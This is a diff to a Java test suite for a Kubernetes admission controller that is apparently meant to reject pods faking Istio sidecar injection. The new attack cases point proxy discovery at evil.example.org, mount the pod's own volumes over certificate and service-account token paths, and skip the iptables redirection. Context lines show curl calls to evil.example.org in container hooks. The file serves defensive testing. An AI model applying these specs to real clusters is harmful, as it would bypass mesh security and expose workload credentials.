@@ -188,6 +188,7 @@ class AdmissionTest {
   private static final String AROUND = "takes egress around the sidecar";
   private static final String OTHER_SIDECAR = "annotation that makes another sidecar";
   private static final String NOT_GENUINE = "not as Istio injects it";
+  private static final String OTHER_VOLUME = "a volume of the sidecar's name";
 
   static Stream<Attack> attacks() {
     return Stream.of(
@@ -301,28 +302,111 @@ class AdmissionTest {
         faked("image: auto, lifecycle: {postStart: {exec: {command: [curl, evil.example.org]}}}"),
         faked("image: auto, livenessProbe: {exec: {command: [curl, evil.example.org]}}"),
         faked("image: auto, securityContext: {runAsUser: 1000, runAsGroup: 1000}"),
+        faked("image: auto, workingDir: /var/lib/istio/data"),
+        faked(
+            "image: auto, args: [proxy, sidecar, --domain, $(POD_NAMESPACE).svc.cluster.local,"
+                + " --meshConfig=/var/lib/istio/data/mesh]"),
+        faked(
+            "image: auto, env: [{name: ISTIO_META_MINE, value: --templateFile=/x}], args: [proxy,"
+                + " sidecar, --domain, $(POD_NAMESPACE).svc.cluster.local, $(ISTIO_META_MINE)]"),
+        faked(
+            "image: auto, env: [{name: PROXY_CONFIG, value: '{\"custom_config_file\":\"/evil\"}'}]"),
+        faked(
+            "image: auto, env: [{name: PROXY_CONFIG, value:"
+                + " '{\"discovery_address\":\"evil.example.org:1\"}'}]"),
+        faked(
+            "image: auto, env: [{name: PROXY_CONFIG, value:"
+                + " '{\"discoveryAddress\":\"istiod.istio-system.svc:15012\","
+                + "\"discoveryAddress\":\"evil.example.org:1\"}'}]"),
+        faked(
+            "image: auto, env: [{name: ISTIO_META_MINE, value: ',\"binaryPath\":\"/evil\"'}, {name:"
+                + " PROXY_CONFIG, value: '{\"concurrency\":2$(ISTIO_META_MINE)}'}]"),
+        faked(
+            "image: auto, lifecycle: {postStart: {exec: {command: [pilot-agent, proxy, sidecar,"
+                + " --templateFile=/x]}}}"),
+        // what the sidecar reads, out of a volume of the pod's own
+        fakedMounting("/etc/istio/config", "configMap: {name: mine}"),
+        fakedMounting("/etc/istio/pod", "configMap: {name: mine}"),
+        fakedMounting("/etc/certs", "secret: {secretName: mine}"),
+        fakedMounting("/var/run/secrets/istio", "configMap: {name: mine}"),
+        fakedMounting(
+            "/var/run/secrets/kubernetes.io/serviceaccount", "configMap: {name: mine}"),
+        faked("image: auto, volumeMounts: [{name: istio-data, mountPath: /etc/istio/proxy}]"),
+        faked(
+            "image: auto, volumeMounts: [{name: istio-podinfo, mountPath: /etc/istio/pod, subPath:"
+                + " labels}]"),
         new Attack(
-            "an istio-init of one's own that excludes a port",
-            "annotations: {sidecar.istio.io/status: '{\"containers\":[\"x\"]}'}",
-            "initContainers:\n"
-                + "- {name: istio-init, image: auto, args: [istio-iptables, -p, \"15001\", -z,"
-                + " \"15006\", -u, \"1337\", -m, REDIRECT, -i, \"*\", -x, \"\", -b, \"*\", -d,"
-                + " \"15090\", -o, \"443\"]}",
-            "",
+            "a volume under another name for the sidecar and the application",
+            INJECTED,
+            "volumes: [{name: mine, emptyDir: {}}]\n"
+                + "initContainers:\n"
+                + "- {name: istio-proxy, image: auto, volumeMounts: [{name: mine, mountPath:"
+                + " /var/run/secrets/workload-spiffe-uds}]}",
+            "volumeMounts: [{name: mine, mountPath: /mine}]",
             "",
             NOT_GENUINE),
+        Attack.spec(
+            "volumes: [{name: workload-certs, secret: {secretName: mine}}]", OTHER_VOLUME),
+        Attack.spec("volumes: [{name: workload-socket, hostPath: {path: /tmp}}]", OTHER_VOLUME),
+        new Attack(
+            "a volume of the name that the account's token has",
+            INJECTED,
+            "volumes: [{name: kube-api-access-mine, configMap: {name: mine}}]\n"
+                + "initContainers:\n"
+                + "- {name: istio-proxy, image: auto, volumeMounts: [{name: kube-api-access-mine,"
+                + " mountPath: /var/run/secrets/kubernetes.io/serviceaccount}]}",
+            "",
+            "",
+            OTHER_VOLUME),
+        // a redirection that is none
+        fakedInit("REDIRECT, -i, \"*\", -x, \"\", -b, \"*\", -d, \"15090\", -o, \"443\""),
+        fakedInit("REDIRECT, -i, \"*\", -x, \"\", -b, \"*\", -d, \"15090\", --skip-rule-apply"),
+        fakedInit(
+            "REDIRECT, -i, \"*\", -x, \"\", -b, \"*\", -d, \"15090\", --run-validation,"
+                + " --skip-rule-apply"),
+        fakedInit("\"REDIRECT -i * -x  -b * -d 15090\""),
         // the sidecar's keys
         Attack.app(
             "volumeMounts: [{name: workload-socket, mountPath: /sds}]",
             "a volume of the sidecar's, with its keys or configuration"));
   }
 
-  /** A container of the sidecar's name in a pod that says it was injected before. */
+  /** By which a pod says that it was injected before. */
+  private static final String INJECTED =
+      "annotations: {sidecar.istio.io/status: '{\"containers\":[\"x\"]}'}";
+
+  /** A container of the sidecar's name in such a pod. */
   private static Attack faked(String container) {
+    return faked(container, "");
+  }
+
+  private static Attack faked(String container, String spec) {
     return new Attack(
         "faked " + container,
-        "annotations: {sidecar.istio.io/status: '{\"containers\":[\"x\"]}'}",
-        "initContainers:\n- {name: istio-proxy, " + container + "}",
+        INJECTED,
+        "initContainers:\n- {name: istio-proxy, " + container + "}\n" + spec,
+        "",
+        "",
+        NOT_GENUINE);
+  }
+
+  /** One that has a volume of the pod's own where it, or the agent in it, looks. */
+  private static Attack fakedMounting(String path, String volume) {
+    return faked(
+        "image: auto, volumeMounts: [{name: mine, mountPath: " + path + "}]",
+        "volumes: [{name: mine, " + volume + "}]");
+  }
+
+  /** A container that lays a redirection, with arguments of the pod's own from the mode on. */
+  private static Attack fakedInit(String arguments) {
+    return new Attack(
+        "faked istio-init " + arguments,
+        INJECTED,
+        "initContainers:\n"
+            + "- {name: istio-init, image: auto, args: [istio-iptables, -p, \"15001\", -z,"
+            + " \"15006\", -u, \"1337\", -m, "
+            + arguments
+            + "]}",
         "",
         "",
         NOT_GENUINE);
@@ -845,6 +929,10 @@ class AdmissionTest {
     assertThat(plane.client().resource(overlay).get()).isNull();
   }
 
+  private static final String ACCOUNT =
+      "{name: kube-api-access-x7f2q, mountPath: /var/run/secrets/kubernetes.io/serviceaccount,"
+          + " readOnly: true}";
+
   static Stream<Attack> ordinary() {
     return Stream.of(
         Attack.spec("", ""),
@@ -854,6 +942,40 @@ class AdmissionTest {
         Attack.labelled("sidecar.istio.io/inject", "true", ""),
         Attack.annotated("sidecar.istio.io/nativeSidecar", "false", ""),
         Attack.annotated("sidecar.istio.io/proxyCPU", "100m", ""),
+        // as the API server gives every container the account's token
+        new Attack(
+            "the account's token",
+            INJECTED,
+            """
+            volumes:
+            - name: kube-api-access-x7f2q
+              projected:
+                sources:
+                - serviceAccountToken: {path: token, expirationSeconds: 3607}
+                - configMap: {name: kube-root-ca.crt, items: [{key: ca.crt, path: ca.crt}]}
+                - downwardAPI:
+                    items: [{path: namespace, fieldRef: {fieldPath: metadata.namespace}}]
+            initContainers:
+            - {name: istio-proxy, image: auto, volumeMounts: [%1$s]}
+            - {name: istio-init, image: auto, volumeMounts: [%1$s]}
+            """
+                .formatted(ACCOUNT),
+            "volumeMounts: [" + ACCOUNT + "]",
+            "",
+            ""),
+        // SPIRE's volume, as its integration with Istio has it
+        Attack.spec(
+            "volumes: [{name: workload-socket, csi: {driver: csi.spiffe.io, readOnly: true}}]", ""),
+        // as where Istio's CNI plug-in lays the redirection, and nftables
+        Attack.spec(
+            "initContainers:\n"
+                + "- {name: istio-validation, image: \""
+                + PROXY
+                + ":1\", args: [istio-iptables, -p, \"15001\", -z, \"15006\", -u, \"1337\", -m,"
+                + " REDIRECT, -i, \"*\", -x, \"\", -b, \"*\", -d, \"15090,15021,15020\","
+                + " \"--log_output_level=default:info\", --log_as_json, --run-validation,"
+                + " --skip-rule-apply, --native-nftables]}",
+            ""),
         Attack.annotated("sidecar.istio.io/rewriteAppHTTPProbers", "true", ""),
         Attack.annotated("traffic.sidecar.istio.io/includeOutboundIPRanges", "*", ""),
         Attack.annotated("traffic.sidecar.istio.io/excludeInboundPorts", "8081", ""),
